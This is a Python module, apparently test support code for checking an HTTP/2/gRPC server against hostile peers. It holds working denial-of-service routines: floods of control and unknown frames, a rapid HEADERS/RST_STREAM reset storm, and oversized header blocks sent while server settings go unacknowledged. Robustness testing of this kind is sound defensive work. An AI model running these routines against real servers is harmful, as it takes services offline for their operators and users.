"""What peers send who mean harm: frames that nothing comes of, headers without an end.

Each makes one connection, from `source` unless it is empty, and goes on until `go_on()`, which is asked
between bursts, is false, or the server ends the connection. Returns whether it has.
"""

import functools

from support import http2

PRIORITY, UNKNOWN = 2, 77
# One frame each; what is opened before them is the stream that they belong to.
FLOODS = {
    "settings": http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\1\0\0"),
    "pings": http2.frame(http2.PING, 0, 0, bytes(8)),
    "priorities": http2.frame(PRIORITY, 0, 1, b"\0\0\0\0\1"),
    "window updates": http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
    "data without data": http2.frame(http2.DATA, 0, 1),
    "unknown frames": http2.frame(UNKNOWN, 0, 0),
    "continuations without headers": http2.frame(http2.CONTINUATION, 0, 1),
    "resets of a stream": http2.frame(http2.RST_STREAM, 0, 1, http2.CANCEL.to_bytes(4, "big")),
}
FRAMES_AT_ONCE = 1000
STREAMS_AT_ONCE = 500
# 4 MiB of headers for each call: the most that gRPC lets one have is 16 MiB.
FIELD = ("x", "v" * 60_000)
FIELDS = 70
WATCH = "/grpc.health.v1.Health/Watch"


def flood(address, frame, go_on, source=""):
    """The same frame again and again."""
    connection = http2.Connection(address, source=source)
    burst = frame * FRAMES_AT_ONCE
    try:
        connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers(WATCH)))
        while go_on():
            connection.send(burst)
    except OSError:
        return True
    finally:
        connection.close()
    return False


@functools.lru_cache(maxsize=64)
def _opened_and_reset(path, flags, first):
    headers = http2.call_headers(path)
    return b"".join(http2.frame(http2.HEADERS, flags | http2.END_HEADERS, stream, headers)
                    + http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL.to_bytes(4, "big"))
                    for stream in range(first, first + 2 * STREAMS_AT_ONCE, 2))


def reset_storm(address, path, flags, go_on, source=""):
    """HEADERS and RST_STREAM for one stream after the other."""
    connection = http2.Connection(address, source=source)
    try:
        for first in range(1, 1 << 24, 2 * STREAMS_AT_ONCE):
            if not go_on():
                break
            connection.send(_opened_and_reset(path, flags, first))
    except OSError:
        return True
    finally:
        connection.close()
    return False


def unacknowledged_headers(address, path, calls, go_on, source=""):
    """Opens so many calls with 4 MiB of headers each: the server's settings are never acknowledged."""
    connection = http2.Connection(address, acknowledges=False, source=source)
    block = http2.call_headers(path, *[FIELD] * FIELDS)
    try:
        for stream in range(1, 2 * calls, 2):
            if not go_on():
                break
            connection.send(http2.header_frames(stream, block))
    except OSError:
        return connection.ends()
    finally:
        connection.close()
    return False
